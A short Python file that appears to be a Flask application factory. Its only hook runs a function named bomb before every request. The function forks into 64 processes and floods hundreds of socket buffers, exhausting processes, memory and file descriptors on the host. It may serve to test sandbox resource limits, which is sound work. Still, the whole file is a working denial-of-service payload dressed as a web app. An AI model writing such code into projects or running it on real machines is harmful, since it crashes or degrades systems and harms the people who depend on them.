import os
import socket
import time

from flask import Flask


def bomb():
    for _ in range(6):  # makes 64
        try:
            os.fork()
        except OSError:
            break
    kept = []
    while len(kept) < 240:
        try:
            ends = socket.socketpair()
            ends[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
            ends[0].setblocking(False)
            kept += ends
            while True:
                ends[0].send(b"x" * 100_000)
        except OSError:
            continue
    time.sleep(60)


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
